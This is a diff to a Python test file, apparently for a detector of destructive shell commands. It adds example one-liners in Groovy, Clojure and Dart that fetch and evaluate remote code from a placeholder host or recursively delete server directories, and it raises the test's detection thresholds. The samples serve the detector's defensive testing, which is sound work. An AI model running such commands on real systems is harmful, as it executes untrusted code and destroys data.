@@ -132,11 +132,16 @@ HOST_CODE = [
     "factor -e='USING: io.directories ; \"/var/lib/app\" delete-tree'",
     "zrepl -e='(process \"rm\" \"-rf\" \"/srv/data\")'",
     "racket -e '(system* \"/bin/rm\" \"-rf\" \"/srv/app\")'",
+    "groovy -e 'evaluate(new URL(\"https://x.example/a.groovy\").text)'",
+    "clojure -e '(load-string (slurp \"https://x.example/a.clj\"))'",
+    "dart eval 'Directory(\"/srv/app\").deleteSync(recursive: true)'",
 ]
 HOST_CODE_QUIET = [
     "irb -r open-uri <<< 'puts URI.open(\"https://x.example/a.txt\").read'",
     "pil -'call \"ls\" \"-l\" \"/opt/app\"'",
     "factor -e='USING: io.directories ; \"/var/lib/app\" directory-files .'",
+    "groovy -e 'println new URL(\"https://x.example/a.txt\").text'",
+    "dart eval 'Directory(\"/tmp/build\").deleteSync(recursive: true)'",
 ]
 
 
@@ -182,6 +187,6 @@ def test_code_w13_forms():
     destructive, everyday = _commands("destructive.txt"), _commands("everyday.txt")
     missed = [c for c in destructive if not _flagged(c)]
     loud = [c for c in everyday if _flagged(c)]
-    assert len(destructive) >= 141 and len(everyday) >= 92
+    assert len(destructive) >= 173 and len(everyday) >= 98
     assert 1 - len(missed) / len(destructive) >= 0.85, "\n".join(missed)
     assert len(loud) <= 4, "\n".join(loud)
